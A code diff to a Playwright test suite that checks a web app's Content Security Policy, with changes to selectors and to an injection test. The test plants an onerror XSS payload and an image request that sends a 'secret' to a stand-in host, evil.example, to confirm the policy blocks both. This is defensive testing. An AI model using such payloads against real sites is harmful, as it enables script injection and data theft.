@@ -35,7 +35,7 @@ test.describe('the policy that browsers hold pages to', () => {
     await studio.keepSteered.click()
     await studio.edits()
     await page.getByRole('button', { name: 'Settings' }).click()
-    await page.getByRole('radio', { name: 'Dark' }).click()
+    await page.getByRole('radio', { name: 'Night' }).click()
     await expect(page.locator('html')).toHaveClass(/dark/)
     await page.keyboard.press('Escape')
     await page.setViewportSize({ width: 390, height: 800 })
@@ -47,7 +47,7 @@ test.describe('the policy that browsers hold pages to', () => {
   test('keeps the reference from nothing that it does', async ({ page }) => {
     const violations = await watch(page)
     await page.goto('/reference')
-    await page.getByText('/api/v1/health', { exact: true }).click()
+    await page.locator('[data-path="/api/v1/health"]').click()
     await page.getByRole('button', { name: 'Execute' }).click()
     await expect(page.locator('.live-responses-table')).toContainText('"status": "ok"')
     expect(violations).toEqual([])
@@ -64,13 +64,10 @@ test.describe('the policy that browsers hold pages to', () => {
     })
     await page.evaluate(() => {
       document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran = true">')
-      const script = document.createElement('script')
-      script.textContent = 'window.ran = true'
-      document.head.append(script)
       new Image().src = 'https://evil.example/?secret'
     })
     await expect.poll(() => violations.join('\n')).toContain('img-src https://evil.example')
-    expect(violations.join('\n')).toContain('script-src-elem inline')
+    expect(violations.join('\n')).toContain('script-src-attr inline')
     expect(await page.evaluate(() => (window as unknown as { ran?: boolean }).ran)).toBeUndefined()
   })
 })
